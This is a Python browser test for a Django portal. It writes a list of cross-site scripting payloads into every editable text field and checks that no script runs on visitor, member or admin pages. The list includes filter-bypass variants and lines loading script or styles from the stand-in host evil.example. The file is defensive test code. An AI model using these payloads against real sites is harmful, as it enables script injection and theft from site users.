"""B2: script in every word that members and staff can write, and every kind of page opened."""

from contextlib import suppress

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import IntegrityError, models, transaction

from facts.fields import ChoicesField
from tests.portal.world import build

pytestmark = [pytest.mark.browser, pytest.mark.once, pytest.mark.django_db(transaction=True)]

CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "eval('prompt(1)')"]
WRITTEN = [
    "<script>RUN</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >RUN</sCrIpT>",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\n>RUN</script\n>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>",
    "<img/src/onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>",
    "<iframe src=javascript:RUN>",
    "<iframe srcdoc='<script>RUN</script>'>",
    "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>",
    "<math><mtext><img src=x onerror=RUN>",
    "<base href=//evil.example/>",
    "<form action=javascript:RUN>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<div style=background:url(//evil.example)>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '" onfocus=RUN autofocus x="',
    "' onfocus=RUN autofocus x='",
    '" onmouseover=RUN style=position:fixed;inset:0 "',
    "` onclick=RUN x=`",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</script><script>RUN</script>",
    "</style><script>RUN</script>",
    "</noscript><img src=x onerror=RUN>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "</option></select><img src=x onerror=RUN>",
    "</template><svg onload=RUN>",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "{%raw%}<script>RUN</script>",
    "#{RUN}",
    "javascript:RUN",
    "java\tscript:RUN",
    "data:text/html,<script>RUN</script>",
    "\\x3cscript\\x3eRUN",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script>RUN</script>",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN",
    "＜script＞RUN＜/script＞",
    "';RUN;//",
    '";RUN;//',
    "<a href=javascript:RUN>x</a>",
    "<xss id=x tabindex=1 onfocus=RUN></xss>",
    "<img src=x:x onerror\n=RUN>",
]
LINES = [line.replace("RUN", CALLS[number % len(CALLS)]) for number, line in enumerate(WRITTEN)]
APPS = ("community", "facts", "portal")
# Addresses, keys and what is read by a program; and words that no form writes.
NOT_WORDS = {
    *("address", "applied", "changes", "content", "country", "detail", "email", "key", "kind"),
    *("language", "languages", "letters", "mark", "password", "preferences", "redirects"),
    *("reference", "secret", "sensitivity", "slug", "subject", "url", "version", "website", "zone"),
}
PAGES = {
    "visitor": [
        "/", "/facts/", "/facts/bones/", "/facts/bones/?show=all", "/facts/bones/scans/",
        "/facts/bones/scans/history/", "/glossary/", "/questions/", "/help/", "/new/", "/about/",
        "/groups/", "/groups/circle/", "/groups/circle/correct/", "/search/?q=script",
        "/search/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/clinical-review/{clinical}/",
        "/listing-check/{listing}/", "/lists/save/?topic=bones",
    ],
    "owner": ["/lists/", "/lists/{owner_list}/", "/account/", "/groups/circle/joining/"],
    "superuser": [
        "/admin/", "/admin/facts/topic/", "/admin/facts/topic/{topic}/change/",
        "/admin/facts/factversion/", "/admin/facts/factversion/{draft}/change/",
        "/admin/facts/factversion/{in_review}/approve/",
        "/admin/facts/factversion/{draft}/compare/",
        "/admin/facts/source/", "/admin/facts/question/{question}/change/",
        "/admin/facts/report/{report}/change/", "/admin/facts/reviewrequest/{asked}/change/",
        "/admin/facts/glossaryterm/{term}/change/", "/admin/community/suggestion/",
        "/admin/community/suggestion/{suggestion}/change/",
        "/admin/community/suggestion/{correction}/change/", "/admin/community/supportgroup/",
        "/admin/community/supportgroup/{group}/change/",
        "/admin/community/service/{service}/change/",
        "/admin/community/supportgroup/{group}/check/", "/admin/portal/emptysearch/",
        "/admin/portal/synonym/{synonym}/change/", "/admin/community/member/{member}/change/",
    ],
}  # fmt: skip


def is_word(field):
    return (
        isinstance(field, (models.CharField, models.TextField))
        and not isinstance(
            field, (models.UUIDField, models.URLField, models.EmailField, ChoicesField)
        )
        and not (field.choices or field.unique or field.primary_key or not field.editable)
        and not (NOT_WORDS & set(field.name.split("_")) or field.name.endswith("_hash"))
    )


def plant(lines):
    """Write script into every word of every row, as many lines as fit."""
    place = 0
    for model in apps.get_models():
        if model._meta.app_label not in APPS:
            continue
        fields = [field for field in model._meta.concrete_fields if is_word(field)]
        for row in model._base_manager.all() if fields else []:
            for field in fields:
                room, text = field.max_length or 4000, ""
                for _line in lines:
                    line = lines[(place := place + 1) % len(lines)]
                    if len(text) + len(line) + 1 <= room:
                        text = f"{text} {line}".strip()
                # Rich text is sanitised on its way, by whatever door it comes.
                # A rule of the database may want another shape: then the word stays as it was.
                with suppress(IntegrityError), transaction.atomic():
                    model._base_manager.filter(pk=row.pk).update(**{field.name: text})


def test_b2_no_script_of_members_or_staff_runs(context, page, live_server, sign_in):
    dialogs, shown = [], 0
    world = build()
    plant(LINES)
    call_command("rebuild_search_index", verbosity=0)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    for role, pages in PAGES.items():
        if role != "visitor":
            sign_in(world.people[role])
        for address in pages:
            response = page.goto(
                live_server.url + address.format_map(world.keys), wait_until="domcontentloaded"
            )
            assert response.status in {200, 404}, address
            words = page.locator("main, #content").first.inner_text()
            shown += any(call in words for call in CALLS)
            # Whatever could be started by hand.
            page.evaluate(
                "document.querySelectorAll('main *').forEach((e) => e.dispatchEvent("
                "new MouseEvent('mouseover', {bubbles: true})))"
            )

    assert dialogs == []
    assert shown > 25
